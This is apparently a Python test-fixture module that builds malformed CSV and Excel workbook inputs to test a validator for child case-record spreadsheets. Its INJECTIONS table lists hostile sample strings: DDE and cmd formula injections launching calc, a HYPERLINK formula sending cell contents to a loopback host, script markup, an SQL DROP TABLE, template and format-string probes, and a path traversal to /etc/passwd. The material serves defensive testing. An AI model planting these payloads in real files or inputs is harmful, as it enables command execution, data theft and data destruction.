"""Cells: what they hold, of whatever kind, and formulas of every make."""

from making import SHEET, STRINGS, XML, clean, replacing, text, workbook
from recipes import Recipe, recipe

REFERENCE = "Reference_number"
ERRORS = ("#N/A", "#DIV/0!", "#REF!", "#VALUE!", "#NAME?", "#NUM!", "#NULL!")
INJECTIONS = {
    "a sum": "=1+1",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "an at": "@SUM(1,1)",
    "a program": "=cmd|' /C calc'!A0",
    "a program behind a tab": "\t=cmd|' /C calc'!A0",
    "a program behind a sum": "=2+5+cmd|' /C calc'!A0",
    "an old macro": '=EXEC("calc")',
    "a link": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Error")',
    "a fetch": '=WEBSERVICE("http://127.0.0.1:9/")',
    "an import": '=IMPORTXML("http://127.0.0.1:9/","//a")',
    "a DDE link": '=DDE("cmd";"/C calc";"x")',
    "a formula behind a quote": "'=1+1",
    "a formula in wide characters": "\uff1d1+1",
    "a formula behind a quotation mark": '"=1+1',
    "markup": "<script>alert(1)</script>",
    "markup of an image": "<img src=x onerror=alert(1)>",
    "a template": "{{7*7}} ${7*7} #{7*7}",
    "a statement of SQL": "'; DROP TABLE drops; --",
    "a format": "%s%s%n %x",
    "a path": "../../../../etc/passwd",
    "a line of a log": "x\nERROR forged line",
}
DATES = {
    "month first": ("05/13/2024", "date.month-first"),
    "no such day": ("31/02/2024", "date.impossible"),
    "no leap year": ("29/02/2023", "date.impossible"),
    "two digits": ("02/05/24", "date.two-digit-year"),
    "a serial": ("45414", "date.number"),
    "a serial below nothing": ("-1", "date.number"),
    "a time of day": ("02/05/2024 13:45", "date.time"),
    "the future": ("02/05/2031", "date.future"),
    "the year 0": ("0000-01-01", "date.unknown-form"),
    "the year 9999": ("31/12/9999", "date.unknown-form"),
    "words": ("the second of May", "date.unknown-form"),
    "digits of another script": ("\u0660\u0662/\u0660\u0665/2024", "date.unknown-form"),
    "a formula": ("=TODAY()", "date.unknown-form"),
    "a week": ("2024-W18-4", "date.unknown-form"),
    "far too many digits": ("0" * 9000 + "2/05/2024", "date.unknown-form"),
}


def odd(heading: str, value: str) -> bytes:
    """A workbook whose first row has this in a cell, and whose second is clean."""
    return workbook(clean(1, **{heading: value}), clean(2))


def case(value: str) -> bytes:
    return odd("Case_information", value)


def formula(words: str, saved: str = "", kind: str = "") -> str:
    return f'<c r="@"{kind}><f>{words}</f>{saved}</c>'


def number(value: str, style: int = 0, kind: str = "") -> str:
    return f'<c r="@" s="{style}"{kind}><v>{value}</v></c>'


def shared(index: str, strings: str = "<si><t>Camden</t></si>") -> bytes:
    table = XML + f'<sst xmlns="urn:x">{strings}</sst>'.encode()
    row = clean(1, Local_authority=f'<c r="@" t="s"><v>{index}</v></c>')
    return workbook(row, parts={STRINGS: table})


def _recipes() -> list[Recipe]:
    family = "formulas and injections"
    made = [
        recipe(family, f"{name}, in a text of a CSV",
               lambda words=words: text(clean(1, Case_information=words)).encode(), "", 1)
        for name, words in INJECTIONS.items()
    ]  # fmt: skip
    made += [
        recipe(family, f"{name}, in a text of a workbook", lambda words=words: case(words), "", 2)
        for name, words in INJECTIONS.items()
        if "link" in name or "program" in name or "markup" in name
    ]
    made += [
        recipe(family, f"{name}, in a reference",
               lambda words=words: text(clean(1, Reference_number=words), clean(2)).encode(),
               "reference.malformed", 1)
        for name, words in list(INJECTIONS.items())[:8]
    ]  # fmt: skip
    text_type = ' t="str"'
    made += [
        recipe(family, name, lambda xml=xml: case(xml), codes)
        for name, xml, codes in (
            ("a formula with its result", formula("1+1", "<v>words</v>", text_type), ""),
            ("a formula without its result", formula("1+1"), "cell.error-value"),
            ("a formula that calls a program", formula("cmd|'/c calc'!A0"), "cell.error-value"),
            ("one that calls, with a result", formula("cmd|'/c calc'!A0", "<v>x</v>", text_type),
             ""),
            ("one of another workbook", formula("[1]Sheet1!A1", "<v>x</v>", text_type), ""),
            ("one that fetches", formula('WEBSERVICE("http://127.0.0.1:9/")'), "cell.error-value"),
            ("one that refers to itself", formula("J2"), "cell.error-value"),
            ("a shared one", '<c r="@"><f t="shared" si="0"/></c>', "cell.error-value"),
            ("an array without end",
             '<c r="@"><f t="array" ref="A1:XFD1048576">1</f></c>', "cell.error-value"),
            ("64 kB of brackets", formula("(" * 65_000), "cell.error-value"),
        )
    ]  # fmt: skip
    family = "cells"
    made += [
        recipe(family, f"the error {word}", lambda word=word: case(number(word, kind=' t="e"')),
               "cell.error-value")
        for word in ERRORS
    ]  # fmt: skip
    made += [
        recipe(family, name, lambda heading=heading, value=value: odd(heading, value), codes)
        for name, heading, value, codes in (
            ("a number for a text", "Case_information", number("201"), ""),
            ("a number without end", "Case_information", number("1e999"), ""),
            ("no number", "Case_information", number("NaN"), ""),
            ("words for a number", "Case_information", number("twelve"), ""),
            ("an error that passes", "Case_information", number("#GETTING_DATA", kind=' t="e"'),
             ".damaged"),
            ("an error of no name", "Case_information", number("#ODD!", kind=' t="e"'), ".damaged"),
            ("true for a text", "Case_information", number("1", kind=' t="b"'), ""),
            ("a date for a text", "Case_information", number("45414", 1),
             "cell.date-in-wrong-place"),
            ("a style that is not there", "Case_information", number("1", 99), ""),
            ("a style of no number", "Case_information", '<c r="@" s="x"><v>1</v></c>', ""),
            ("a kind that is not there", "Case_information", number("1", kind=' t="zz"'),
             ".damaged"),
            ("escaped control characters", "Case_information", "a_x0001_b",
             "cell.control-character"),
            ("a control character", "Case_information",
             '<c r="@" t="inlineStr"><is><t>a&#1;b</t></is></c>', "cell.control-character"),
            ("an unfinished reference", "Case_information",
             '<c r="@" t="inlineStr"><is><t>a&b</t></is></c>', ".damaged"),
            ("10,000 characters", "Case_information", "x" * 10_000, ""),
            ("10,001 characters", "Case_information", "x" * 10_001, "cell.too-long"),
            ("a megabyte", "Case_information", "word " * 200_000, "cell.too-long"),
            ("half a surrogate", "Case_information",
             '<c r="@" t="inlineStr"><is><t>&#xD800;</t></is></c>', ".damaged"),
            ("a character beyond all", "Case_information",
             '<c r="@" t="inlineStr"><is><t>&#x110000;</t></is></c>', ".damaged"),
            ("a name for initials", "Child's_initials", "Amy Pond", "initials.full-name"),
            ("digits for initials", "Child's_initials", "4B", "initials.malformed"),
            ("a list that is not agreed", "Gender", "femalemale", "code.unknown"),
            ("a part of a label", "Gender", "male or so", "code.unknown"),
            ("a postcode in a text", "Case_information", "She lives at SW1A 1AA.",
             "screen.postcode"),
            ("an NHS number in a text", "Case_information", "Number 943 476 5919.",
             "screen.nhs-number"),
            ("an e-mail address in a text", "Case_information", "Write to a@example.org now.",
             "screen.email"),
            ("accents piled up", "Case_information", "Z" + "\u0301" * 3000, ""),
            ("writing turned about", "Case_information", "\u202ereversed\u202c", ""),
            ("emoji", "Case_information", "\U0001f469\u200d\U0001f467", ""),
        )
    ]  # fmt: skip
    made += [
        recipe(family, f"shared string {index}", lambda index=index: shared(index), codes)
        for index, codes in (("0", ""), ("1", ".damaged"), ("4000000000", ".damaged"))
    ]  # fmt: skip
    made += [
        recipe(family, "100,000 empty shared strings", lambda: shared("0", "<si/>" * 100_000),
               "cell.required"),
        recipe(family, "texts called shared that stand in the cell", lambda: workbook(
            parts={SHEET: replacing('t="inlineStr"', 't="s"')})),
    ]  # fmt: skip
    family = "dates"
    made += [
        recipe(family, f"{name}, in a CSV",
               lambda value=value: text(clean(1, Date_of_birth=value), clean(2)).encode(), code, 1)
        for name, (value, code) in DATES.items()
    ]  # fmt: skip
    made += [
        recipe(family, f"{name}, in a cell", lambda xml=xml: odd("Date_of_birth", xml), codes)
        for name, xml, codes in (
            ("a true date", number("40210", 1), ""),
            ("a bare number", number("40210"), "date.number"),
            ("a date with a time", number("40210.5", 2), "date.time"),
            ("a time alone", number("0.5", 3), "date.unknown-form"),
            ("a negative one", number("-40210", 1), "date.unknown-form"),
            ("a date after all calendars", number("99999999999", 1), "date.number"),
            ("the day that never was", number("60", 1), "age.out-of-range"),
            ("an ISO date", number("2010-03-01", kind=' t="d"'), ""),
            ("an ISO date of words", number("never", kind=' t="d"'), "date.unknown-form"),
        )
    ]  # fmt: skip
    return made


RECIPES = _recipes()
